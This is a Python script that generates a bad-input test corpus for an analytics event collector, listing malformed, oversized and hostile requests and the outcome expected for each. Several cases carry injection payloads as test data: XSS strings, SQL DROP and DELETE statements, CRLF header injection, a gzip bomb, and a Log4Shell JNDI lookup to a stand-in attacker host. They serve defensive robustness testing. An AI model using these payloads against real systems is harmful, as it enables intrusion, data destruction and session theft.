"""Regenerate the bad-input corpus: one ``cases/NNN_name.bin`` per case and ``cases.json``.

The data files are the source of truth; this script only documents how they were made and
what each case expects. Run ``python tests/corpus/make_corpus.py`` after editing a case.
"""

from __future__ import annotations

import copy
import functools
import gzip
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson

HERE = Path(__file__).resolve().parent
CASES_DIR = HERE / "cases"
TS = "2025-06-01T12:00:00.000Z"

Json = dict[str, Any]


@dataclass
class Case:
    """One corpus entry: the bytes, where they are sent and what must happen to them."""

    name: str
    category: str
    description: str
    body: bytes
    status: int
    code: str | None
    processor: str
    collected: dict[str, int] = field(default_factory=dict)
    endpoint: str = "/v1/track"
    auth: str = "header"
    headers: dict[str, str] = field(default_factory=dict)
    hostile: list[str] = field(default_factory=list)


CASES: list[Case] = []
_counter = iter(range(1, 10_000))


def _next_id() -> int:
    return next(_counter)


def event(n: int, kind: str = "track", **fields: Any) -> Json:
    """A processor-valid event numbered ``n`` (unique messageId and device)."""
    e: Json = {
        "type": kind,
        "messageId": f"corpus-{n:03d}",
        "anonymousId": f"anon-corpus-{n:03d}",
        "timestamp": TS,
        "context": {"device": {"type": "server"}, "library": {"name": "corpus", "version": "1"}},
    }
    if kind == "track":
        e["event"] = "Product Viewed"
        e["properties"] = {"product_id": "P00001"}
    e.update(fields)
    return e


def order(n: int, **props: Any) -> Json:
    """A valid Order Completed event, with ``props`` overriding its properties."""
    p: Json = {
        "order_id": f"o-{n}",
        "revenue": 72.99,
        "currency": "EUR",
        "products": [{"product_id": "P00001", "quantity": 1, "price": 72.99}],
    }
    p.update(props)
    return event(n, event="Order Completed", properties=p)


def dumps(value: Any) -> bytes:
    """Compact JSON; the standard library where orjson refuses (nesting over 255 levels)."""
    try:
        return orjson.dumps(value)
    except TypeError:
        return json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode()


def add(
    name: str,
    category: str,
    description: str,
    body: bytes | Callable[[int], bytes],
    status: int,
    code: str | None,
    processor: str,
    **extra: Any,
) -> None:
    """Register a case; ``body`` may take the case number (to number its ids)."""
    n = _next_id()
    raw = body(n) if callable(body) else body
    if status == 200 and "collected" not in extra:
        extra["collected"] = {"valid": 1}
    CASES.append(
        Case(f"{n:03d}_{name}", category, description, raw, status, code, processor, **extra)
    )


def mutated(mutate: Callable[[Json], object], kind: str = "track") -> Callable[[int], bytes]:
    """A body builder: the valid event ``n`` changed by ``mutate``."""

    def build(n: int) -> bytes:
        e = event(n, kind)
        mutate(e)
        return dumps(e)

    return build


def text_with(n: int, fragment: str, kind: str = "track") -> bytes:
    """A valid event's JSON text with ``fragment`` spliced in before its last brace."""
    base = dumps(event(n, kind)).decode()
    return (base[:-1] + "," + fragment + "}").encode()


def _set(path: str, value: Any) -> Callable[[Json], None]:
    def mutate(e: Json) -> None:
        *parents, last = path.split(".")
        target = e
        for part in parents:
            target = target.setdefault(part, {})
        target[last] = value

    return mutate


def _known(traits: Json) -> Callable[[Json], None]:
    """Make the event a known customer's (userId from its messageId) with ``traits``."""

    def mutate(e: Json) -> None:
        e.update(userId=f"cus-{e['messageId']}", traits=dict(traits))

    return mutate


def _drop(key: str) -> Callable[[Json], None]:
    def mutate(e: Json) -> None:
        e.pop(key, None)

    return mutate


def nested(depth: int, leaf: Any = 1) -> Any:
    value = leaf
    for _ in range(depth):
        value = {"x": value}
    return value


def nested_lists(depth: int) -> Any:
    value: Any = []
    for _ in range(depth - 1):
        value = [value]
    return value


def malformed_json() -> None:
    c = "malformed_json"
    bad = ("invalid_json", "not_json")
    add("empty_body", c, "zero bytes", b"", 400, *bad)
    add("whitespace_only", c, "only blanks and newlines", b"  \n\t  ", 400, *bad)
    add("truncated_object", c, "cut mid-object", lambda n: dumps(event(n))[:40], 400, *bad)
    add(
        "trailing_comma",
        c,
        "a comma before the closing brace",
        lambda n: dumps(event(n))[:-1] + b",}",
        400,
        *bad,
    )
    add(
        "single_quotes",
        c,
        "JavaScript-style quotes",
        lambda n: dumps(event(n)).replace(b'"', b"'"),
        400,
        *bad,
    )
    add("unquoted_keys", c, "keys without quotes", b"{type: 'track', messageId: 1}", 400, *bad)
    add(
        "js_comment",
        c,
        "a // comment inside",
        lambda n: b"// tracking\n" + dumps(event(n)),
        400,
        *bad,
    )
    add("two_objects", c, "two concatenated objects", lambda n: dumps(event(n)) * 2, 400, *bad)
    add(
        "utf8_bom",
        c,
        "a UTF-8 byte order mark before a valid event",
        lambda n: b"\xef\xbb\xbf" + dumps(event(n)),
        400,
        *bad,
    )
    add(
        "trailing_garbage",
        c,
        "a valid event followed by text",
        lambda n: dumps(event(n)) + b" ;DROP",
        400,
        *bad,
    )
    for literal in ("NaN", "Infinity", "-Infinity"):
        add(
            f"literal_{literal.strip('-').lower()}{'_neg' if literal[0] == '-' else ''}",
            c,
            f"a bare {literal} number (not JSON)",
            functools.partial(text_with, fragment=f'"score":{literal}'),
            400,
            *bad,
        )
    add(
        "number_1e400",
        c,
        "a number beyond double range",
        lambda n: text_with(n, '"v":1e400'),
        400,
        *bad,
    )
    add(
        "number_neg_1e400",
        c,
        "a negative number beyond double range",
        lambda n: text_with(n, '"v":-1e400'),
        400,
        *bad,
    )
    add("hex_number", c, "a hexadecimal literal", lambda n: text_with(n, '"v":0x1F'), 400, *bad)
    add(
        "leading_zero",
        c,
        "a number with a leading zero",
        lambda n: text_with(n, '"v":012'),
        400,
        *bad,
    )
    add(
        "unterminated_string",
        c,
        "a string without its closing quote",
        b'{"type":"track","messageId":"abc',
        400,
        *bad,
    )
    add(
        "raw_newline_in_string",
        c,
        "an unescaped line break inside a string",
        lambda n: text_with(n, '"note":"line1\nline2"'),
        400,
        *bad,
    )
    add(
        "bad_escape",
        c,
        "an invalid \\x escape",
        lambda n: text_with(n, '"note":"\\x41"'),
        400,
        *bad,
    )
    add(
        "lone_high_surrogate",
        c,
        "an escaped high surrogate without its pair",
        lambda n: text_with(n, '"note":"\\ud800"'),
        400,
        *bad,
    )
    add(
        "lone_low_surrogate",
        c,
        "an escaped low surrogate alone",
        lambda n: text_with(n, '"note":"\\udc00x"'),
        400,
        *bad,
    )
    add(
        "unclosed_array",
        c,
        "an array never closed",
        lambda n: text_with(n, '"tags":[1,2,3')[:-1],
        400,
        *bad,
    )
    add("missing_colon", c, "a key without a colon", b'{"type" "track"}', 400, *bad)
    add(
        "depth_2000",
        c,
        "2000 nested arrays: over the JSON parser's depth limit",
        b"[" * 2000 + b"]" * 2000,
        400,
        *bad,
    )
    not_object = ("not_an_object", "not_an_object")
    add(
        "top_level_array",
        c,
        "an array of events, not an object",
        lambda n: dumps([event(n)]),
        400,
        *not_object,
    )
    add("top_level_string", c, "a JSON string", b'"track"', 400, *not_object)
    add("top_level_number", c, "a JSON number", b"42", 400, *not_object)
    add("top_level_null", c, "JSON null", b"null", 400, *not_object)
    add("top_level_true", c, "JSON true", b"true", 400, *not_object)


def invalid_utf8() -> None:
    c = "invalid_utf8"
    bad = ("not_utf8", "not_utf8")

    def splice(raw: bytes) -> Callable[[int], bytes]:
        return lambda n: dumps(event(n)).replace(b"P00001", b"P" + raw + b"1")

    add("lone_continuation_byte", c, "0x80 without a lead byte", splice(b"\x80"), 400, *bad)
    add("overlong_slash", c, "overlong encoding of '/' (C0 AF)", splice(b"\xc0\xaf"), 400, *bad)
    add(
        "truncated_sequence",
        c,
        "a three-byte sequence cut after two",
        splice(b"\xe2\x82"),
        400,
        *bad,
    )
    add("latin1_e_acute", c, "Latin-1 é (0xE9) instead of UTF-8", splice(b"caf\xe9"), 400, *bad)
    add(
        "cesu_surrogate",
        c,
        "a UTF-8-encoded surrogate (ED A0 80)",
        splice(b"\xed\xa0\x80"),
        400,
        *bad,
    )
    add("byte_ff", c, "the never-valid byte 0xFF", splice(b"\xff"), 400, *bad)
    add(
        "beyond_unicode",
        c,
        "F5: a code point past U+10FFFF",
        splice(b"\xf5\x80\x80\x80"),
        400,
        *bad,
    )
    add(
        "utf16le_with_bom",
        c,
        "the event encoded as UTF-16LE",
        lambda n: b"\xff\xfe" + json.dumps(event(n)).encode("utf-16-le"),
        400,
        *bad,
    )
    add("random_binary", c, "256 bytes of every value", bytes(range(256)), 400, *bad)
    add(
        "gzip_without_header",
        c,
        "a gzip body sent without Content-Encoding",
        lambda n: gzip.compress(dumps(event(n)), mtime=0),
        400,
        *bad,
    )
    add(
        "invalid_in_key",
        c,
        "an invalid byte inside a key",
        lambda n: dumps(event(n)).replace(b'"event"', b'"ev\xfeent"'),
        400,
        *bad,
    )


def oversize() -> None:
    c = "oversize"
    add(
        "event_40kb",
        c,
        "one event of 40 KB (limit 32 KiB)",
        mutated(_set("properties.note", "x" * 40_000)),
        400,
        "event_too_large",
        "too_large",
    )
    add(
        "event_near_limit",
        c,
        "one event of 30 KB: under every limit, legitimate",
        mutated(_set("properties.note", "y" * 30_000)),
        200,
        None,
        "valid",
    )

    def big_batch(n: int) -> bytes:
        events = []
        for i in range(2200):
            e = event(n)
            e["messageId"] = f"corpus-{n:03d}-{i}"
            events.append(e)
        return dumps({"batch": events})

    add(
        "batch_600kb",
        c,
        "a batch over the 500 KiB request limit",
        big_batch,
        413,
        "body_too_large",
        "too_large",
    )

    def full_batch(n: int) -> bytes:
        events = []
        for i in range(300):
            e = event(n)
            e["messageId"] = f"corpus-{n:03d}-{i:04d}"
            events.append(e)
        return dumps({"batch": events})

    add(
        "batch_300_events",
        c,
        "a large but legal batch of 300 events",
        full_batch,
        200,
        None,
        "too_large",
        endpoint="/v1/batch",
        collected={"valid": 300},
    )
    add(
        "batch_of_20k_zeros",
        c,
        "a huge array of non-events as the batch",
        dumps({"batch": [0] * 20_000}),
        400,
        "invalid_event",
        "too_large",
        endpoint="/v1/batch",
    )
    add(
        "huge_array_property",
        c,
        "an array of 20k numbers inside one event",
        mutated(_set("properties.tags", list(range(20_000)))),
        400,
        "event_too_large",
        "too_large",
    )
    add(
        "array_5000_small",
        c,
        "an array of 5000 small numbers (under the size limit)",
        mutated(_set("properties.tags", [7] * 5000)),
        200,
        None,
        "valid",
    )
    add(
        "products_201",
        c,
        "an order with 201 line items (schema allows 200)",
        lambda n: dumps(
            order(n, products=[{"product_id": "P00001", "quantity": 1, "price": 1.0}] * 201)
        ),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    add(
        "properties_201_keys",
        c,
        "201 property keys (schema allows 200)",
        mutated(_set("properties", {"product_id": "P00001", **{f"k{i}": i for i in range(200)}})),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    add(
        "context_101_keys",
        c,
        "101 context keys (schema allows 100)",
        mutated(lambda e: e["context"].update({f"c{i}": i for i in range(99)})),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    bomb = gzip.compress(b"{" + b" " * 5_000_000 + b"}", mtime=0)
    add(
        "gzip_bomb",
        c,
        "5 MB of JSON compressed to a few KB",
        bomb,
        413,
        "body_too_large",
        "not_utf8",
        headers={"Content-Encoding": "gzip"},
    )
    add(
        "corrupt_gzip",
        c,
        "gzip header followed by garbage",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + b"\xde\xad\xbe\xef" * 8,
        400,
        "bad_gzip",
        "not_utf8",
        headers={"Content-Encoding": "gzip"},
    )
    add(
        "truncated_gzip",
        c,
        "a gzip stream cut in half",
        lambda n: gzip.compress(dumps(event(n)), mtime=0)[:30],
        400,
        "bad_gzip",
        "not_utf8",
        headers={"Content-Encoding": "gzip"},
    )
    add(
        "valid_gzip",
        c,
        "a correctly gzipped event (accepted; raw gzip bytes are not UTF-8)",
        lambda n: gzip.compress(dumps(event(n)), mtime=0),
        200,
        None,
        "not_utf8",
        headers={"Content-Encoding": "gzip"},
    )
    add(
        "brotli_encoding",
        c,
        "an unsupported Content-Encoding",
        lambda n: dumps(event(n)),
        415,
        "unsupported_encoding",
        "valid",
        headers={"Content-Encoding": "br"},
    )


def nesting() -> None:
    c = "deep_nesting"
    add(
        "depth_33_objects",
        c,
        "properties nested 33 levels (processor limit 32)",
        mutated(_set("properties.deep", nested(33))),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    add(
        "depth_30_objects",
        c,
        "properties nested 30 levels: under the limit",
        mutated(_set("properties.deep", nested(27))),
        200,
        None,
        "valid",
    )
    add(
        "depth_300_lists",
        c,
        "300 nested arrays: parsed, but the collector cannot re-serialize",
        mutated(_set("properties.deep", nested_lists(300))),
        400,
        "invalid_event",
        "schema_violation",
    )
    add(
        "depth_100_in_traits",
        c,
        "traits nested 100 levels",
        mutated(_set("traits.deep", nested(100)), kind="identify"),
        200,
        None,
        "schema_violation",
        endpoint="/v1/identify",
        collected={"schema_violation": 1},
    )


def wrong_types() -> None:
    c = "wrong_types"
    sv = "schema_violation"
    one_sv = {"collected": {sv: 1}}
    add(
        "message_id_number",
        c,
        "messageId is a number",
        mutated(_set("messageId", 42)),
        400,
        "missing_message_id",
        sv,
    )
    add(
        "message_id_empty",
        c,
        "messageId is empty",
        mutated(_set("messageId", "")),
        400,
        "missing_message_id",
        sv,
    )
    add(
        "message_id_null",
        c,
        "messageId is null",
        mutated(_set("messageId", None)),
        400,
        "missing_message_id",
        sv,
    )
    add(
        "message_id_missing",
        c,
        "no messageId",
        mutated(_drop("messageId")),
        400,
        "missing_message_id",
        sv,
    )
    add(
        "message_id_201_chars",
        c,
        "messageId over 200 characters",
        lambda n: dumps(event(n, messageId=f"corpus-{n:03d}-" + "m" * 200)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "user_id_number",
        c,
        "userId is a number (no anonymousId)",
        mutated(lambda e: (e.pop("anonymousId"), e.update(userId=12345))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "anonymous_id_object",
        c,
        "anonymousId is an object",
        mutated(_set("anonymousId", {"id": "x"})),
        400,
        "missing_identity",
        sv,
    )
    add(
        "anonymous_id_bool",
        c,
        "anonymousId is true",
        mutated(_set("anonymousId", True)),
        400,
        "missing_identity",
        sv,
    )
    add(
        "anonymous_id_list",
        c,
        "anonymousId is a list",
        mutated(_set("anonymousId", ["a"])),
        400,
        "missing_identity",
        sv,
    )
    add(
        "timestamp_number",
        c,
        "timestamp as epoch milliseconds",
        mutated(_set("timestamp", 1748779200000)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "timestamp_empty",
        c,
        "timestamp is an empty string",
        mutated(_set("timestamp", "")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "properties_list",
        c,
        "properties is a list",
        mutated(_set("properties", [1, 2])),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "properties_string",
        c,
        "properties is a string",
        mutated(_set("properties", "{}")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "context_string",
        c,
        "context is a string",
        mutated(_set("context", "mobile")),
        400,
        "invalid_context",
        sv,
    )
    add(
        "context_list",
        c,
        "context is a list",
        mutated(_set("context", [])),
        400,
        "invalid_context",
        sv,
    )
    add(
        "context_missing",
        c,
        "no context: the collector adds one (server device)",
        mutated(_drop("context")),
        200,
        None,
        sv,
    )
    add(
        "device_type_unknown",
        c,
        "context.device.type is 'toaster'",
        mutated(_set("context.device.type", "toaster")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "device_not_object",
        c,
        "context.device is a string (collector keeps it)",
        mutated(_set("context.device", "phone")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "mobile_without_session",
        c,
        "a mobile track event without context.sessionId",
        mutated(_set("context.device.type", "mobile")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "session_id_number",
        c,
        "context.sessionId is a number",
        mutated(_set("context.sessionId", 7)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "schema_version_zero",
        c,
        "context.schemaVersion is 0",
        mutated(_set("context.schemaVersion", 0)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "schema_version_string",
        c,
        "context.schemaVersion is a string",
        mutated(_set("context.schemaVersion", "1")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "schema_version_1001",
        c,
        "context.schemaVersion beyond the schema maximum",
        mutated(_set("context.schemaVersion", 1001)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "schema_version_float",
        c,
        "context.schemaVersion is 1.5",
        mutated(_set("context.schemaVersion", 1.5)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "type_missing_on_track_endpoint",
        c,
        "no type: /v1/track sets it",
        mutated(_drop("type")),
        200,
        None,
        sv,
    )
    add(
        "type_number_in_batch",
        c,
        "type 42 in a batch",
        lambda n: dumps({"batch": [event(n, type=42)]}),
        400,
        "invalid_type",
        "missing_identity",
        endpoint="/v1/batch",
    )
    add(
        "type_missing_in_batch",
        c,
        "no type in a batch event",
        lambda n: dumps({"batch": [{k: v for k, v in event(n).items() if k != "type"}]}),
        400,
        "invalid_type",
        "missing_identity",
        endpoint="/v1/batch",
    )
    add(
        "batch_not_list",
        c,
        "batch is an object",
        lambda n: dumps({"batch": event(n)}),
        400,
        "invalid_batch",
        "missing_identity",
        endpoint="/v1/batch",
    )
    add(
        "batch_missing",
        c,
        "a batch request without batch",
        lambda n: dumps(event(n)),
        400,
        "invalid_batch",
        "valid",
        endpoint="/v1/batch",
    )
    add(
        "batch_item_string",
        c,
        "a batch whose event is a string",
        dumps({"batch": ["track"]}),
        400,
        "invalid_event",
        "missing_identity",
        endpoint="/v1/batch",
    )
    add(
        "batch_empty",
        c,
        "an empty batch: nothing to do, accepted",
        dumps({"batch": []}),
        200,
        None,
        "missing_identity",
        endpoint="/v1/batch",
        collected={},
    )
    add(
        "event_name_number",
        c,
        "event name is a number",
        mutated(_set("event", 7)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "event_name_empty",
        c,
        "event name is empty",
        mutated(_set("event", "")),
        200,
        None,
        sv,
        **one_sv,
    )
    add("event_name_missing", c, "no event name", mutated(_drop("event")), 200, None, sv, **one_sv)
    add(
        "traits_list",
        c,
        "identify traits is a list",
        mutated(_set("traits", ["a"]), kind="identify"),
        200,
        None,
        sv,
        endpoint="/v1/identify",
        **one_sv,
    )
    add(
        "email_not_an_address",
        c,
        "identify traits.email without an @",
        mutated(_set("traits", {"email": "not-an-email"}), kind="identify"),
        200,
        None,
        sv,
        endpoint="/v1/identify",
        **one_sv,
    )
    add(
        "first_name_object",
        c,
        "traits.firstName is an object",
        mutated(_set("traits", {"firstName": {"a": 1}}), kind="identify"),
        200,
        None,
        sv,
        endpoint="/v1/identify",
        **one_sv,
    )


def commerce() -> None:
    c = "commerce_values"
    sv = "schema_violation"
    one_sv = {"collected": {sv: 1}}

    def line(**over: Any) -> list[Json]:
        item: Json = {"product_id": "P00001", "quantity": 1, "price": 72.99}
        item.update(over)
        return [item]

    add(
        "negative_revenue",
        c,
        "revenue -10",
        lambda n: dumps(order(n, revenue=-10)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "negative_quantity",
        c,
        "quantity -3",
        lambda n: dumps(order(n, products=line(quantity=-3))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "zero_quantity",
        c,
        "quantity 0",
        lambda n: dumps(order(n, products=line(quantity=0))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "fractional_quantity",
        c,
        "quantity 1.5",
        lambda n: dumps(order(n, products=line(quantity=1.5))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "quantity_string",
        c,
        "quantity '2'",
        lambda n: dumps(order(n, products=line(quantity="2"))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "quantity_huge",
        c,
        "quantity 10^12",
        lambda n: dumps(order(n, products=line(quantity=10**12))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "negative_price",
        c,
        "price -1",
        lambda n: dumps(order(n, products=line(price=-1.0))),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "revenue_1e308",
        c,
        "revenue 1e308 (finite, far over the maximum)",
        lambda n: dumps(order(n, revenue=1e308)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "revenue_string",
        c,
        "revenue '72.99'",
        lambda n: dumps(order(n, revenue="72.99")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "revenue_integer_2e70",
        c,
        "revenue 2^70 as an integer literal (outside 64 bits: a JSON reader loses digits)",
        lambda n: dumps(order(n)).replace(b'"revenue":72.99', f'"revenue":{2**70}'.encode()),
        400,
        "number_out_of_range",
        sv,
    )
    add(
        "currency_lowercase",
        c,
        "currency 'eur'",
        lambda n: dumps(order(n, currency="eur")),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "products_empty",
        c,
        "an order without line items",
        lambda n: dumps(order(n, products=[])),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "products_missing",
        c,
        "an order without products",
        lambda n: dumps(
            event(
                n,
                event="Order Completed",
                properties={"order_id": "o", "revenue": 1, "currency": "EUR"},
            )
        ),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "product_id_missing",
        c,
        "Product Viewed without product_id",
        mutated(_set("properties", {"name": "dress"})),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "product_id_number",
        c,
        "product_id is a number",
        mutated(_set("properties.product_id", 1)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "price_negative_view",
        c,
        "Product Viewed with price -5",
        mutated(_set("properties.price", -5)),
        200,
        None,
        sv,
        **one_sv,
    )
    add(
        "valid_order",
        c,
        "a correct order, as a control",
        lambda n: dumps(order(n)),
        200,
        None,
        "valid",
    )


def unknown_events() -> None:
    c = "unknown_events"
    ue = "unknown_event"
    one = {"collected": {ue: 1}}
    add(
        "event_rocket_launched",
        c,
        "an event with no schema",
        mutated(_set("event", "Rocket Launched")),
        200,
        None,
        ue,
        **one,
    )
    add(
        "event_lowercase_known",
        c,
        "'product viewed' (names are case-sensitive)",
        mutated(_set("event", "product viewed")),
        200,
        None,
        ue,
        **one,
    )
    add(
        "event_reserved_track",
        c,
        "track event named 'track'",
        mutated(_set("event", "track")),
        200,
        None,
        ue,
        **one,
    )
    add(
        "event_name_10k",
        c,
        "an event name of 10,000 characters",
        mutated(_set("event", "E" * 10_000)),
        200,
        None,
        ue,
        **one,
    )
    add(
        "event_name_sql",
        c,
        "SQL in the event name",
        mutated(_set("event", "x'); DROP TABLE events; --")),
        200,
        None,
        ue,
        **one,
    )
    add(
        "event_name_script",
        c,
        "a script tag as the event name",
        mutated(_set("event", "<script>alert(1)</script>")),
        200,
        None,
        ue,
        **one,
    )
    add(
        "type_screen",
        c,
        "a screen call (not modelled)",
        mutated(lambda e: None, "screen"),
        200,
        None,
        ue,
        endpoint="/v1/screen",
        **one,
    )
    add(
        "type_group",
        c,
        "a group call (not modelled)",
        mutated(lambda e: None, "group"),
        200,
        None,
        ue,
        endpoint="/v1/group",
        **one,
    )
    add(
        "type_purchase_in_batch",
        c,
        "a made-up type in a batch",
        lambda n: dumps({"batch": [event(n, type="purchase")]}),
        400,
        "invalid_type",
        "missing_identity",
        endpoint="/v1/batch",
    )
    add(
        "type_screen_raw",
        c,
        "a screen event posted to /v1/track (the endpoint sets the type)",
        mutated(_set("type", "screen")),
        200,
        None,
        ue,
        collected={"valid": 1},
    )


def identities() -> None:
    c = "missing_ids"
    mi = ("missing_identity", "missing_identity")
    add("no_identity", c, "neither userId nor anonymousId", mutated(_drop("anonymousId")), 400, *mi)
    add(
        "empty_identities",
        c,
        "userId and anonymousId both empty",
        mutated(lambda e: e.update(anonymousId="", userId="")),
        400,
        *mi,
    )
    add(
        "null_identities",
        c,
        "userId and anonymousId both null",
        mutated(lambda e: e.update(anonymousId=None, userId=None)),
        400,
        *mi,
    )
    add(
        "alias_without_ids",
        c,
        "an alias with no ids at all",
        mutated(lambda e: e.pop("anonymousId"), kind="alias"),
        400,
        *mi,
        endpoint="/v1/alias",
    )
    add(
        "alias_previous_only",
        c,
        "an alias with only previousId",
        mutated(
            lambda e: (e.pop("anonymousId"), e.update(previousId=f"old-{e['messageId']}")),
            kind="alias",
        ),
        200,
        None,
        "schema_violation",
        endpoint="/v1/alias",
        collected={"schema_violation": 1},
    )
    add(
        "anonymous_id_201_chars",
        c,
        "anonymousId over 200 characters",
        mutated(_set("anonymousId", "a" * 201)),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    add(
        "identity_in_wrong_case",
        c,
        "'userid' and 'AnonymousId' (keys are case-sensitive)",
        mutated(lambda e: e.update(AnonymousId=e.pop("anonymousId"), userid="cus_x")),
        400,
        *mi,
    )


def timestamps() -> None:
    c = "timestamps"
    oor = "timestamp_out_of_range"
    one = {"collected": {oor: 1}}
    for label, ts in [
        ("1970_epoch", "1970-01-01T00:00:00Z"),
        ("1969_negative_epoch", "1969-12-31T23:59:59Z"),
        ("1999_before_minimum", "1999-12-31T23:59:59Z"),
        ("2100", "2100-01-01T00:00:00Z"),
        ("year_9999", "9999-12-31T23:59:59.999Z"),
        ("year_0001", "0001-01-01T00:00:00Z"),
    ]:
        add(
            f"timestamp_{label}",
            c,
            f"timestamp {ts}",
            mutated(_set("timestamp", ts)),
            200,
            None,
            oor,
            **one,
        )
    bt = "bad_timestamp"
    one_bt = {"collected": {bt: 1}}
    for label, ts in [
        ("no_zone", "2025-06-01T12:00:00"),
        ("words", "yesterday"),
        ("month_13", "2025-13-45T12:00:00Z"),
        ("feb_30", "2025-02-30T12:00:00Z"),
        ("epoch_string", "1748779200000"),
        ("rfc2822", "Sun, 01 Jun 2025 12:00:00 GMT"),
        ("offset_25h", "2025-06-01T12:00:00+25:00"),
    ]:
        add(
            f"timestamp_{label}",
            c,
            f"timestamp {ts!r}",
            mutated(_set("timestamp", ts)),
            200,
            None,
            bt,
            **one_bt,
        )
    add(
        "timestamp_65_chars",
        c,
        "a timestamp string over 64 characters",
        mutated(_set("timestamp", "2025-06-01T12:00:00.000Z" + " " * 50)),
        200,
        None,
        "schema_violation",
        collected={"schema_violation": 1},
    )
    add(
        "timestamp_plus_14h",
        c,
        "a legal +14:00 offset",
        mutated(_set("timestamp", "2025-06-02T02:00:00+14:00")),
        200,
        None,
        "valid",
    )
    add(
        "timestamp_1970_with_sent_at_1970",
        c,
        "a device clock at 1970 with sentAt at 1970: the collector corrects the skew",
        mutated(
            lambda e: e.update(timestamp="1970-01-01T00:00:00Z", sentAt="1970-01-01T00:00:05Z")
        ),
        200,
        None,
        oor,
        collected={"valid": 1},
    )
    add(
        "timestamp_missing",
        c,
        "no timestamp: the collector uses the receive time",
        mutated(_drop("timestamp")),
        200,
        None,
        "schema_violation",
    )
    add(
        "sent_at_garbage",
        c,
        "sentAt unreadable, timestamp fine",
        mutated(_set("sentAt", "garbage")),
        200,
        None,
        "valid",
    )


HOSTILE = {
    "script_tag": "<script>alert('xss')</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "svg_onload": '"><svg onload=alert(1)>',
    "javascript_url": "javascript:alert(document.cookie)",
    "attribute_break": "' onmouseover='alert(1)",
    "template_injection": "{{ 7*7 }}{% raw %}",
    "sql_drop": "Robert'); DROP TABLE profiles;--",
    "sql_or": "1' OR '1'='1",
    "log4shell": "${jndi:ldap://attacker.example/a}",
    "crlf_header": "Eve\r\nBcc: victim@example.com",
    "html_entities": "&lt;script&gt;&amp;",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
}


def hostile_strings() -> None:
    c = "hostile_strings"
    for label, text in HOSTILE.items():
        add(
            f"first_name_{label}",
            c,
            f"identify with firstName {text!r} (legitimate data)",
            mutated(_known({"firstName": text, "lastName": text}), kind="identify"),
            200,
            None,
            "valid",
            endpoint="/v1/identify",
            hostile=[text],
        )
    add(
        "user_id_script",
        c,
        "a script tag as the userId",
        mutated(lambda e: e.update(userId=HOSTILE["script_tag"] + e["messageId"])),
        200,
        None,
        "valid",
        hostile=[HOSTILE["script_tag"]],
    )
    add(
        "anonymous_id_sql",
        c,
        "SQL as the anonymousId",
        mutated(lambda e: e.update(anonymousId=HOSTILE["sql_or"] + e["messageId"])),
        200,
        None,
        "valid",
    )
    add(
        "message_id_sql",
        c,
        "SQL as the messageId",
        mutated(lambda e: e.update(messageId=e["messageId"] + "'); DELETE FROM events;--")),
        200,
        None,
        "valid",
    )
    add(
        "product_id_sql",
        c,
        "SQL as the product_id",
        mutated(_set("properties.product_id", "P1'; DROP TABLE events; --")),
        200,
        None,
        "valid",
    )
    add(
        "url_javascript",
        c,
        "a javascript: URL as a page property",
        mutated(_set("properties.url", HOSTILE["javascript_url"])),
        200,
        None,
        "valid",
    )
    add(
        "page_name_html",
        c,
        "a page whose name is HTML",
        mutated(lambda e: e.update(name=HOSTILE["img_onerror"], properties={}), kind="page"),
        200,
        None,
        "valid",
        endpoint="/v1/page",
    )


UNICODE = {
    "rtl_override": "\u202eevil.exe\u202c",
    "zero_width": "Ann\u200b\u200c\u200d\u2060a",
    "emoji": "Zo\U0001f600\U0001f469\u200d\U0001f4bb",
    "nul": "Nul\u0000Byte",
    "combining": "Z\u0351\u0364\u0300a\u0300\u0301\u0302l\u0303go",
    "bom_inside": "\ufeffBomName",
    "noncharacter": "Non\uffffchar",
    "line_separator": "Line\u2028Para\u2029End",
    "cjk_astral": "\u5f20\u4f1f\U00020000",
    "homoglyph": "\u0430dmin",
    "nfd_accent": "Le\u0301a",
    "c1_controls": "C1\u0085\u009bcontrols",
    "bidi_arabic": "\u0645\u0631\u062d\u0628\u0627 Hello",
}


def unicode_cases() -> None:
    c = "unicode"
    for label, text in UNICODE.items():
        add(
            f"first_name_{label}",
            c,
            f"identify with firstName {text!r} (legitimate data)",
            mutated(_known({"firstName": text}), kind="identify"),
            200,
            None,
            "valid",
            endpoint="/v1/identify",
            hostile=[text],
        )
    add(
